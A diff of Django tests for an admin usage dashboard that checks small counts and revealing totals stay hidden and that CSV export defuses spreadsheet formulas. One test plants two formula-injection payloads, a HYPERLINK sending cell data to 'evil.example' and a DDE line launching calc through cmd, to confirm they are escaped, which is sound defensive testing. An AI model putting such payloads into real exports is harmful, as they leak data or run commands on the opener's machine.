@@ -64,7 +64,8 @@ def test_dashboard_counts_match_what_visitors_did_with_small_counts_hidden(
     assert dashboard_cells(html, steps[-1].title)[-1] == "7"
     assert dashboard_cells(html, f"1. {stage.title}")[-1] == "7"
     assert dashboard_cells(html, program.title)[-1] == "0"
-    assert dashboard_cells(html, "Journals saved with a code")[-1] == "fewer than 5"
+    saved = dashboard_cells(html, "Journals saved with a code")
+    assert saved[-2:] == ["fewer than 5", "not shown"]
     assert dashboard_cells(html, "Urge diary entries")[-1] == "7"
     assert "<svg" in html
     assert "<rect" in html
@@ -80,3 +81,63 @@ def test_dashboard_counts_match_what_visitors_did_with_small_counts_hidden(
     )
     by_label = {row[2]: row[3:] for row in rows[1:]}
     assert "fewer than 5" in by_label["Journals saved with a code"]
+
+
+def csv_rows(admin_client):
+    response = admin_client.get("/admin/dashboard.csv")
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.django_db
+def test_no_total_gives_away_a_hidden_week(program, admin_client):
+    from modules.staff.dashboard import weeks
+
+    stage = program.stages.first()
+    step = stage.steps.first()
+    columns = weeks()
+    # One small week beside a large one: a shown total minus the shown week
+    # would be the hidden count.
+    for subject, metric, counts in (
+        (step.uuid, "step_completed", {columns[-2]: 3, columns[-1]: 7}),
+        (stage.uuid, "stage_completed", {columns[-3]: 2, columns[-1]: 9}),
+        ("", "journal_saved", {columns[0]: 1, columns[1]: 1, columns[2]: 1}),
+    ):
+        for week, count in counts.items():
+            UsageCount.objects.create(
+                metric=metric, subject=str(subject), week=week, count=count
+            )
+    html = admin_client.get("/admin/dashboard/").content.decode()
+    step_row = dashboard_cells(html, step.title)
+    assert step_row[-3:] == ["fewer than 5", "7", "not shown"]
+    stage_row = dashboard_cells(html, f"1. {stage.title}")
+    assert stage_row[-4:] == ["fewer than 5", "0", "9", "not shown"]
+    saved_row = dashboard_cells(html, "Journals saved with a code")
+    assert saved_row[:3] == ["fewer than 5"] * 3
+    assert saved_row[-1] == "not shown"
+    for row in csv_rows(admin_client)[1:]:
+        cells, total = row[3:-1], row[-1]
+        if "fewer than 5" in cells:
+            assert total == "not shown", row
+    # The chart of stage totals leaves the hidden total out too.
+    chart = re.search(r"<svg.*?</svg>", html, re.S).group(0)
+    assert ">11<" not in chart
+    assert ">&lt;5<" not in chart
+
+
+@pytest.mark.django_db
+def test_csv_export_cannot_carry_a_spreadsheet_formula(program, admin_client):
+    step = program.stages.first().steps.first()
+    step.title = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    step.save()
+    stage = program.stages.first()
+    program.title = "+1+cmd|' /C calc'!A0"
+    program.save()
+    rows = csv_rows(admin_client)
+    labels = [row[2] for row in rows[1:]]
+    assert "'" + step.title in labels
+    assert "'" + program.title in labels
+    assert f"1. {stage.title}" in labels
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
